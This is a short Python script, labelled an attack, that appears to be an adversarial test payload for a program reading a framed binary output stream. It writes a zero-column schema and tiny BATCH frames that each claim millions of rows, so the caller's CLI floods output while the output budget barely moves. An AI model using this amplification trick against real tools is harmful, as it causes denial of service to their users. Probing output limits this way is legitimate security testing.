# Attack: an output schema with zero columns; each BATCH frame is 8 bytes yet announces up to 2^32-1 rows.
# Costs 8 bytes of max_output per frame; the caller's CLI prints one line per row (table/csv) or "[]," (json).
import os, struct, sys
ROWS = 10_000_000      # per frame (up to 4294967295)
FRAMES = 3
def wall(b):
    mv = memoryview(b)
    while mv:
        n = os.write(3, mv); mv = mv[n:]
sch = struct.pack('<I', 0)
wall(struct.pack('<IB', len(sch), 3) + sch)
for _ in range(FRAMES):
    wall(struct.pack('<IB', 8, 4) + struct.pack('<II', ROWS, 0))
P = struct.pack('<I', 4) + struct.pack('<I', 0) + struct.pack('<II', 0, 0)
wall(struct.pack('<IB', len(P), 2) + P)
wall(struct.pack('<IB', 8, 5) + struct.pack('<Q', ROWS * FRAMES))
sys.stdout.flush(); os._exit(0)
